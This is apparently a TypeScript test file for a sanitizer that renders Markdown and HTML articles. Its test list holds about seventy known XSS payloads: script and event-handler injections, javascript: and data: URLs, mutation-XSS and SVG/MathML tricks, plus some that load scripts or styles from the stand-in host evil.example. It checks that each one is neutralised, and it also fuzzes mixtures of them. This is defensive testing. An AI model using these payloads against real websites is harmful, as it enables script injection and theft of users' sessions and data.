import type { Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { htmlOf } from './render.ts';

/** Elements that execute, embed, restyle or request something. */
const REFUSED_ELEMENTS = new Set([
  ...['script', 'style', 'link', 'meta', 'base', 'object', 'embed', 'applet', 'form', 'button'],
  ...['select', 'textarea', 'svg', 'math', 'template', 'noscript', 'frame', 'frameset', 'dialog'],
]);

const ADDRESSES = ['href', 'src', 'poster', 'cite', 'action', 'data', 'srcSet', 'srcDoc'];

/** Active parts of an HTML text as a browser parses it. */
function dangersIn(html: string): string[] {
  const tree: Root = fromHtml(html, { fragment: true });
  const dangers: string[] = [];
  visit(tree, 'element', ({ tagName, properties }) => {
    if (REFUSED_ELEMENTS.has(tagName)) dangers.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      if (/^on/i.test(name) || ['style', 'srcDoc', 'formAction', 'name'].includes(name)) {
        dangers.push(`${tagName} ${name}`);
      }
      // Browsers remove control characters and spaces before they parse the scheme.
      const address = String(value).replaceAll(/[\0-\x20\x7f-\x9f\u200b]/g, '');
      const scheme = /^([a-z][a-z\d+.-]*):/i.exec(address)?.[1]?.toLowerCase();
      const isSafe =
        scheme === undefined ||
        ['http', 'https', 'mailto', 'tel', 'article-media'].includes(scheme);
      if (ADDRESSES.includes(name) && !isSafe) dangers.push(`${tagName} ${name}=${address}`);
    }
    if (
      tagName === 'iframe' &&
      !/^https:\/\/(?:www\.youtube|player\.vimeo)/.test(String(properties.src))
    ) {
      dangers.push('foreign iframe');
    }
  });
  return dangers;
}

describe('published XSS vectors (OWASP Filter Evasion, PortSwigger, mutation XSS)', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x:x" onerror="alert(1)">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<img src=javascript:alert(1)>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img/src/onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><script>alert(1)</script></template>',
    '<title><img src=x onerror=alert(1)></title>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<video src="https://e.com/x" onerror=alert(1)></video>',
    '<video poster="javascript:alert(1)" src="https://example.com/v.mp4"></video>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<input autofocus onfocus=alert(1)>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex type=image src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<img name=cookie><a name=getElementById>x</a>',
    '<table background="javascript:alert(1)"><td>x</table>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<a href="https://example.com" onclick=alert(1) target=_blank>x</a>',
    '[x](javascript:alert(1))',
    '[x](JAVASCRIPT&colon;alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x]( javascript:alert(1) "t")',
    '![x](javascript:alert(1))',
    '![x](vbscript:x)',
    '[x]\n\n[x]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
    '`<script>`<script>alert(1)</script>',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '```"onmouseover="alert(1)\nx\n```',
    '![a"onerror="alert(1)](https://example.com/x.png)',
    '![a](https://example.com/x.png "t\' onerror=\'alert(1)")',
  ])('comes to nothing: %s', (vector) => {
    const html = htmlOf(vector);
    expect(dangersIn(html)).toEqual([]);
    expect(html).not.toMatch(/alert\(1\)<\/script|<script/i);
  });

  it('leaves nothing that acts in any mixture of them', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        ' ',
        '\n',
        '`',
        '&',
        ';',
        ':',
        '(',
        ')',
        '[',
        ']',
        '!',
        '#',
      ],
      ...['script', 'svg', 'math', 'style', 'img', 'iframe', 'template', 'noscript', 'table', 'p'],
      ...[
        'a',
        'form',
        'mtext',
        'title',
        'onerror',
        'onload',
        'href',
        'src',
        'srcdoc',
        'javascript:',
      ],
      ...[
        'data:text/html,',
        'alert(1)',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&#x6A;',
        '\t',
        '&Tab;',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        expect(dangersIn(htmlOf(parts.join('').replace(/^---/, '')))).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });
});

describe('what an article may hold', () => {
  it.each([
    ['<abbr title="World Wide Web">WWW</abbr>', '<abbr title="World Wide Web">WWW</abbr>'],
    [
      '<kbd>Ctrl</kbd> <mark>x</mark> <cite>y</cite>',
      '<kbd>Ctrl</kbd> <mark>x</mark> <cite>y</cite>',
    ],
    ['<p dir="rtl" lang="ar" id="here">x</p>', '<p dir="rtl" lang="ar" id="here">x</p>'],
    [
      'H<sub>2</sub>O <q cite="https://e.com">x</q>',
      'H<sub>2</sub>O <q cite="https://e.com">x</q>',
    ],
    ['<time datetime="2026-01-01">x</time>', '<time datetime="2026-01-01">x</time>'],
    ['<ruby>漢<rt>かん</rt></ruby>', '<ruby>漢<rt>かん</rt></ruby>'],
    [
      '<details open><summary>S</summary>x</details>',
      '<details open><summary>S</summary>x</details>',
    ],
    [
      '<video src="https://e.com/v.mp4" controls></video>',
      '<video src="https://e.com/v.mp4" controls></video>',
    ],
    [
      '[mail](mailto:a@b.c) [call](tel:+1)',
      '<a href="mailto:a@b.c">mail</a> <a href="tel:+1">call</a>',
    ],
    ['```rust,ignore\nx\n```', '<pre><code class="language-rust">x\n</code></pre>'],
    ['```c++\nx\n```', '<code class="language-c++">'],
    ['| a |\n|:-:|\n| b |', '<td align="center">b</td>'],
    ['- [x] done', '<li class="task-list-item"><input type="checkbox" checked disabled> done</li>'],
    [
      '<ol start="3" reversed><li value="7">x</ol>',
      '<ol start="3" reversed><li value="7">x</li></ol>',
    ],
    ['3. three', '<ol start="3">'],
  ])('%s', (written, kept) => {
    expect(htmlOf(written)).toContain(kept);
  });

  it.each([
    'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ',
    'https://www.youtube.com/embed/dQw4w9WgXcQ?start=10',
    'https://player.vimeo.com/video/76979871?h=8272103f6e',
  ])('a frame of %s', (address) => {
    const frame = `<iframe src="${address}" width="560" height="315" title="T" allowfullscreen></iframe>`;
    expect(htmlOf(frame)).toBe(frame);
  });

  it.each([
    [
      '<picture><source srcset="x.webp"><img src="https://e.com/x.png" alt="A"></picture>',
      '<figure><img src="https://e.com/x.png" alt="A"></figure>',
    ],
    ['<div style="color:red" class="x" onclick="y">z</div>', '<div>z</div>'],
    ['<form><label>Name</label><input name="n"></form>', 'Name'],
    ['a <input type="checkbox"> b', '<p>a  b</p>'],
    ['<font color="red">x</font>', '<p>x</p>'],
    ['a <button>press</button> b', '<p>a  b</p>'],
  ])('%s only as far as it is an article’s', (written, kept) => {
    expect(htmlOf(written).replaceAll('\n', '')).toBe(kept);
  });
});
